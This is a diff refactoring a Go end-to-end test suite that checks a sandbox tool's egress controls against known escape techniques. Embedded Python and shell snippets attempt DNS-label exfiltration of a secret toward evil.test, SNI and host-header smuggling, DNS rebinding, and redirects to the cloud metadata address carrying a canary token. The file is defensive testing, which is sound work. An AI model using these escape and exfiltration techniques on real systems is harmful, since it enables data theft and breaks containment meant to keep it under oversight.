@@ -1,34 +1,37 @@
 //go:build linux
 
-package e2e_test
+package attack_test
 
 import (
 	"fmt"
 	"slices"
 	"strings"
 	"testing"
+
+	"github.com/cloche-dev/cloche/test/fixture"
+	"github.com/cloche-dev/cloche/test/testnet"
 )
 
 // The resolver's questions and the connections that the sandboxes of a test network may make.
 const (
 	asksResolver = "udp 127.0.0.53:53"
-	toAllowed80  = "tcp " + testnetAllowed + ":80"
-	toAllowed443 = "tcp " + testnetAllowed + ":443"
-	toDatabase   = "tcp " + testnetAllowed + ":5432"
+	toAllowed80  = "tcp " + testnet.Allowed + ":80"
+	toAllowed443 = "tcp " + testnet.Allowed + ":443"
+	toDatabase   = "tcp " + testnet.Allowed + ":5432"
 )
 
 // TestNetworksOut tries what is known to lead out of sandboxes, from inside one of each
 // engine. D01 to D10 are the names that these attacks have where they are collected.
 func TestNetworksOut(t *testing.T) {
-	onEngines(t, networksOut)
+	fixture.OnEngines(t, networksOut)
 }
 
 func networksOut(t *testing.T, engine, settings string) {
-	w := newTestnet(t, "version: 1\nmin_tier: namespace\nengine: "+engine+"\nprofiles: {few: {egress: {limits: {bytes_out: 64KiB}}}}\n", settings)
-	w.must("create", "--name", "box", "--allow", "allowed.test", "--allow", "*.wild.test", "--allow", "db.test:5432")
+	w := testnet.New(t, "version: 1\nmin_tier: namespace\nengine: "+engine+"\nprofiles: {few: {egress: {limits: {bytes_out: 64KiB}}}}\n", settings)
+	w.Must("create", "--name", "box", "--allow", "allowed.test", "--allow", "*.wild.test", "--allow", "db.test:5432")
 	for _, c := range []struct {
 		name string
-		run  func(*testing.T, *testnet)
+		run  func(*testing.T, *testnet.Network)
 		gate bool // it is about what decides, which is the same behind every link
 	}{
 		{"D00 an empty list sends nothing at all", nothingLeaves, false},
@@ -50,36 +53,36 @@ func networksOut(t *testing.T, engine, settings string) {
 			continue
 		}
 		ok := t.Run(c.name, func(t *testing.T) {
-			w.t = t
-			w.revive()
-			w.heard()
-			w.gone()
+			w.T = t
+			w.Revive()
+			w.Heard()
+			w.Packets()
 			c.run(t, w)
 		})
-		w.t = t
+		w.T = t
 		if !ok && t.Failed() {
 			continue
 		}
 	}
-	w.must("rm", "-f", "box")
+	w.Must("rm", "-f", "box")
 }
 
-// none fails if anything left, except what is named.
-func (w *testnet) none(but ...string) {
-	w.t.Helper()
-	if out := w.gone(but...); len(out) > 0 {
-		w.t.Errorf("left: %q", out)
+// nothingSent fails if anything left, except what is named.
+func nothingSent(w *testnet.Network, but ...string) {
+	w.T.Helper()
+	if out := w.Packets(but...); len(out) > 0 {
+		w.T.Errorf("left: %q", out)
 	}
-	names, requests := w.heard()
+	names, requests := w.Heard()
 	for _, q := range requests {
-		host, _, _ := strings.Cut(strings.ToLower(strings.TrimSuffix(q.host, ".")), ":")
-		if strings.TrimSuffix(host, ".") != "allowed.test" || q.sni != "" && q.sni != "allowed.test" || !strings.HasPrefix(q.at, testnetAllowed+":") {
-			w.t.Errorf("served: %+v", q)
+		host, _, _ := strings.Cut(strings.ToLower(strings.TrimSuffix(q.Host, ".")), ":")
+		if strings.TrimSuffix(host, ".") != "allowed.test" || q.SNI != "" && q.SNI != "allowed.test" || !strings.HasPrefix(q.At, testnet.Allowed+":") {
+			w.T.Errorf("served: %+v", q)
 		}
 	}
 	for _, n := range names {
 		if !slices.Contains([]string{"allowed.test.", "db.test."}, n) {
-			w.t.Errorf("asked: %s", n)
+			w.T.Errorf("asked: %s", n)
 		}
 	}
 }
@@ -106,18 +109,18 @@ for port in (53, 123, 443, 4500, 5353):
             pass
 `
 
-func nothingLeaves(_ *testing.T, w *testnet) {
-	w.must("create", "--name", "empty", "--net", "on")
-	w.attack("empty", tryEverything)
-	w.none()
-	w.must("create", "--name", "without", "--net", "none")
-	w.attack("without", tryEverything)
-	w.none()
-	w.must("rm", "-f", "empty", "without")
+func nothingLeaves(_ *testing.T, w *testnet.Network) {
+	w.Must("create", "--name", "empty", "--net", "on")
+	w.Attack("empty", tryEverything)
+	nothingSent(w)
+	w.Must("create", "--name", "without", "--net", "none")
+	w.Attack("without", tryEverything)
+	nothingSent(w)
+	w.Must("rm", "-f", "empty", "without")
 }
 
-func dataInNames(t *testing.T, w *testnet) {
-	w.attack("box", `
+func dataInNames(t *testing.T, w *testnet.Network) {
+	w.Attack("box", `
 import base64
 data = base64.b32encode(b'the whole of a secret key').strip(b'=').lower()
 for labels in ([data, b'evil', b'test'], [data, b'allowed', b'test'], [b'_' + data, b'evil', b'test'], [b'_x', data, b'allowed', b'test'],
@@ -147,19 +150,19 @@ for i in range(3):
     if a[3] & 15 != 5:
         print('LEAK by tcp', a)
 `)
-	w.none()
+	nothingSent(w)
 	// A name that only a star allows is asked for when it is connected to, and not before.
-	w.attack("box", `
+	w.Attack("box", `
 print(ask([b'a', b'wild', b'test']))
 `)
-	if names, _ := w.heard(); len(names) > 0 {
+	if names, _ := w.Heard(); len(names) > 0 {
 		t.Errorf("the question for a name went out before there was a connection: %q", names)
 	}
-	w.none()
+	nothingSent(w)
 }
 
-func otherSpellings(_ *testing.T, w *testnet) {
-	out := w.attack("box", `
+func otherSpellings(_ *testing.T, w *testnet.Network) {
+	out := w.Attack("box", `
 good = [b'allowed.test', b'ALLOWED.Test', b'allowed.test.', b'allowed.test:80']
 bad = [b'evil.test', b'allowed.test\x00.evil.test', b'allowed.test%00.evil.test', b'allowed.test@evil.test', b'evil.test@allowed.test', b'evil.test#allowed.test',
        b'evil.test/allowed.test', b'allowed.test:443', b'allowed.test:80@evil.test', b'allowed.test:', b'allowed.test:+80', b'allowed.test..', b'.allowed.test',
@@ -192,11 +195,11 @@ if n != 1:
     print('LEAK upper case is another name', code, n)
 `)
 	_ = out
-	w.none(asksResolver, toAllowed80)
+	nothingSent(w, asksResolver, toAllowed80)
 }
 
-func anotherHostInside(t *testing.T, w *testnet) {
-	w.attack("box", `
+func anotherHostInside(t *testing.T, w *testnet.Network) {
+	w.Attack("box", `
 c = ssl.create_default_context()
 c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
 def hello(name, alpn=None, session=None, context=c):
@@ -258,10 +261,10 @@ try:
 except ConnectionResetError:
     pass
 `)
-	if out := w.must("egress", "log", "--kind", "refused", "-n", "3", "box"); !strings.Contains(out, "TLS hello names another host") {
+	if out := w.Must("egress", "log", "--kind", "refused", "-n", "3", "box"); !strings.Contains(out, "TLS hello names another host") {
 		t.Errorf("a second hello was not refused:\n%s", out)
 	}
-	w.must("exec", "box", "--", "sh", "-c", `
+	w.Must("exec", "box", "--", "sh", "-c", `
 ! openssl s_client -connect allowed.test:443 -servername evil.test </dev/null >/dev/null 2>&1
 openssl s_client -connect allowed.test:443 -servername allowed.test -sess_out /tmp/s </dev/null >/dev/null 2>&1
 ! openssl s_client -connect allowed.test:443 -servername evil.test -sess_in /tmp/s </dev/null >/dev/null 2>&1
@@ -269,20 +272,20 @@ openssl s_client -connect allowed.test:443 -servername allowed.test -sess_out /t
 ! curl -ksS --max-time 30 --connect-to evil.test:443:allowed.test:443 https://evil.test/ 2>/dev/null
 ! curl -sS --max-time 30 --fail --connect-to evil.test:80:allowed.test:80 http://evil.test/ 2>/dev/null
 `)
-	w.none(asksResolver, toAllowed80, toAllowed443)
+	nothingSent(w, asksResolver, toAllowed80, toAllowed443)
 }
 
-func namesThatLeadElsewhere(t *testing.T, w *testnet) {
-	w.knows("cname.wild.test", "inner.corp", "10.0.0.5")
-	w.knows("good.wild.test", "cdn.example", testnetAllowed)
-	w.knows("several.wild.test", "127.0.0.1", "169.254.169.254", "10.0.0.9", testnetAllowed)
-	w.answers("rebind.wild.test", func(asked int) []string {
+func namesThatLeadElsewhere(t *testing.T, w *testnet.Network) {
+	w.Knows("cname.wild.test", "inner.corp", "10.0.0.5")
+	w.Knows("good.wild.test", "cdn.example", testnet.Allowed)
+	w.Knows("several.wild.test", "127.0.0.1", "169.254.169.254", "10.0.0.9", testnet.Allowed)
+	w.Answers("rebind.wild.test", func(asked int) []string {
 		if asked == 0 {
-			return []string{testnetAllowed}
+			return []string{testnet.Allowed}
 		}
 		return []string{"127.0.0.1"}
 	})
-	w.attack("box", `
+	w.Attack("box", `
 def get(host):
     return talk(b'GET / HTTP/1.1\r\nHost: ' + host.encode() + b'\r\nConnection: close\r\n\r\n', host)
 def refused(host):
@@ -320,20 +323,20 @@ for i in range(1, 20):
     except OSError:
         pass
 `)
-	names, requests := w.heard()
+	names, requests := w.Heard()
 	for _, q := range requests {
-		if strings.Contains(q.target, "bad") || !strings.HasPrefix(q.at, testnetAllowed+":") {
+		if strings.Contains(q.Target, "bad") || !strings.HasPrefix(q.At, testnet.Allowed+":") {
 			t.Errorf("served: %+v", q)
 		}
 	}
 	if slices.ContainsFunc(names, func(n string) bool { return !strings.HasSuffix(n, ".wild.test.") && n != "allowed.test." }) {
 		t.Errorf("asked: %q", names)
 	}
-	w.none(asksResolver, toAllowed80)
+	nothingSent(w, asksResolver, toAllowed80)
 }
 
-func tunnels(t *testing.T, w *testnet) {
-	w.attack("box", `
+func tunnels(t *testing.T, w *testnet.Network) {
+	w.Attack("box", `
 H = b'Host: allowed.test\r\n'
 evil = b'GET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n'
 for what, data in {
@@ -397,17 +400,17 @@ try:
 except OSError:
     pass
 `)
-	_, requests := w.heard()
+	_, requests := w.Heard()
 	for _, q := range requests {
-		if q.host != "allowed.test" || strings.Contains(q.target, "smuggled") || strings.Contains(q.target, "evil") {
+		if q.Host != "allowed.test" || strings.Contains(q.Target, "smuggled") || strings.Contains(q.Target, "evil") {
 			t.Errorf("served: %+v", q)
 		}
 	}
-	w.none(asksResolver, toAllowed80)
+	nothingSent(w, asksResolver, toAllowed80)
 }
 
-func otherProtocols(_ *testing.T, w *testnet) {
-	out := w.attack("box", `
+func otherProtocols(_ *testing.T, w *testnet.Network) {
+	out := w.Attack("box", `
 at = socket.gethostbyname('allowed.test')
 for host in (at, '93.184.215.14', '8.8.8.8', '10.88.0.1'):
     for port in (443, 123, 53, 500, 4500, 3478, 1194, 51820):
@@ -485,27 +488,27 @@ for host in ('93.184.215.66', '8.8.8.8'):
         print('LEAK by another route', host)
 `)
 	_ = out
-	w.none()
+	nothingSent(w)
 	// A connection of TCP is still possible.
-	w.must("exec", "box", "--", "curl", "-sS", "--max-time", "5", "http://allowed.test/")
-	w.none(asksResolver, toAllowed80)
+	w.Must("exec", "box", "--", "curl", "-sS", "--max-time", "5", "http://allowed.test/")
+	nothingSent(w, asksResolver, toAllowed80)
 }
 
-func privateAddresses(t *testing.T, w *testnet) {
+func privateAddresses(t *testing.T, w *testnet.Network) {
 	addrs := []string{
 		"127.0.0.1", "127.255.255.254", "0.0.0.0", "10.0.0.1", "10.88.0.1", "10.88.0.2", "100.64.0.1", "100.100.100.200", "169.254.169.254", "169.254.170.2", "169.254.1.1",
 		"172.16.0.1", "172.17.0.1", "192.0.0.192", "192.0.2.1", "192.168.0.1", "198.18.0.1", "198.19.255.255", "198.51.100.1", "203.0.113.1", "224.0.0.1", "240.0.0.1",
-		"255.255.255.255", "168.63.129.16", testnetOwn,
+		"255.255.255.255", "168.63.129.16", testnet.Own,
 		"::", "::1", "::127.0.0.1", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "64:ff9b:1::1", "2002:7f00:1::", "2001::1", "fd00:ec2::254", "fe80::1", "fec0::1", "ff02::1",
 		"2001:db8::1", "100::1",
 	}
 	var names strings.Builder
 	for i, a := range addrs {
 		name := fmt.Sprintf("p%d.wild.test", i)
-		w.knows(name, a)
+		w.Knows(name, a)
 		fmt.Fprintf(&names, "%q, ", name)
 	}
-	w.attack("box", `
+	w.Attack("box", `
 names = [`+names.String()+`]
 ports = (80, 443)
 for n in names:
@@ -521,19 +524,17 @@ for to in connected([(host, port) for host in ('10.88.0.1', '127.0.0.1', '93.184
                      for port in (22, 80, 443, 2375, 6443, 7777, 8080, 10250, 5432)]):
     print('LEAK', to)
 `)
-	if _, requests := w.heard(); len(requests) > 0 {
+	if _, requests := w.Heard(); len(requests) > 0 {
 		t.Errorf("served: %+v", requests)
 	}
-	w.none(asksResolver)
+	nothingSent(w, asksResolver)
 }
 
-func moreBytes(t *testing.T, w *testnet) {
+func moreBytes(t *testing.T, w *testnet.Network) {
 	const limit = 64 << 10
-	w.must("create", "--name", "few", "--profile", "few", "--allow", "db.test:5432")
-	w.mu.Lock()
-	w.received = 0
-	w.mu.Unlock()
-	w.attack("few", `
+	w.Must("create", "--name", "few", "--profile", "few", "--allow", "db.test:5432")
+	w.Received.Store(0)
+	w.Attack("few", `
 def send(n):
     try:
         s = connect('db.test', 5432)
@@ -545,32 +546,29 @@ def send(n):
         return type(e).__name__
 print(send(1000), send(1 << 20), send(10), send(1))
 `)
-	poll(func() bool { w.mu.Lock(); defer w.mu.Unlock(); return w.received == limit })
-	w.mu.Lock()
-	received := w.received
-	w.mu.Unlock()
-	if received != limit {
+	fixture.Poll(func() bool { return w.Received.Load() == limit })
+	if received := w.Received.Load(); received != limit {
 		t.Errorf("%d bytes left, %d may", received, limit)
 	}
-	if out := w.must("egress", "log", "--kind", "refused", "few"); !strings.Contains(out, "egress.budget") {
+	if out := w.Must("egress", "log", "--kind", "refused", "few"); !strings.Contains(out, "egress.budget") {
 		t.Errorf("nobody was told:\n%s", out)
 	}
-	w.must("rm", "-f", "few")
-	w.none(asksResolver, toDatabase)
+	w.Must("rm", "-f", "few")
+	nothingSent(w, asksResolver, toDatabase)
 }
 
-func redirects(t *testing.T, w *testnet) {
-	w.must("exec", "box", "--", "sh", "-c", `
+func redirects(t *testing.T, w *testnet.Network) {
+	w.Must("exec", "box", "--", "sh", "-c", `
 for to in http://evil.test/x https://evil.test/x http://93.184.215.66/x http://169.254.169.254/latest/meta-data/ http://allowed.test@evil.test/ http://127.0.0.1:5432/ ftp://evil.test/ gopher://db.test:5432/_x; do
   out=$(curl -sS -L --max-time 30 --location-trusted -H 'Authorization: Bearer canary' "http://allowed.test/to/$to" 2>&1) && case $out in *served*) echo "LEAK $to $out"; exit 1;; esac
 done
 curl -sS -L --max-time 30 http://allowed.test/to/http://allowed.test/again | grep -q 'served /again'
 `)
-	_, requests := w.heard()
+	_, requests := w.Heard()
 	for _, q := range requests {
-		if q.host != "allowed.test" {
+		if q.Host != "allowed.test" {
 			t.Errorf("served: %+v", q)
 		}
 	}
-	w.none(asksResolver, toAllowed80, toDatabase)
+	nothingSent(w, asksResolver, toAllowed80, toDatabase)
 }
